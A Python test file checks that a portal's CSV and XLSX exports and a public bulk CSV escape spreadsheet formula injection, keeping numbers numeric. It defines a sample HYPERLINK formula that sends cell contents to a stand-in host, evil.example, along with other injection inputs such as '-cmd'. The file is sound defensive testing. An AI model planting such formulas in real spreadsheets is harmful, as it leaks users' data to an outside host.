"""Rule 7: the commission's CSV and XLSX exports and the public bulk CSV are safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from portal.services.exports import render
from publisher.bulk import csv_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"查看")'


def test_the_csv_export_neutralises_formulas_and_keeps_numbers():
    data = render("csv", "统计", ["机构", "数量"], [[EVIL, 12], ["@SUM(A1)", -3]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "12"] and rows[2] == ["'@SUM(A1)", "-3"]


def test_the_xlsx_export_has_no_formula_and_numeric_cells_stay_numeric():
    book = load_workbook(io.BytesIO(render("xlsx", "统计", ["机构", "数量"], [[EVIL, 12], ["+1", 2.5]])))
    sheet = book.active
    assert sheet["A2"].value == "'" + EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'+1" and sheet["B3"].value == 2.5
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_public_bulk_csv_neutralises_a_hostile_name():
    row = csv_row({"identifier": "D110105202600000011", "name": EVIL, "institutions": [{"name": "-cmd"}], "beds": 120})
    assert row["name"] == "'" + EVIL and row["institutions"] == "'-cmd" and row["beds"] == "120"
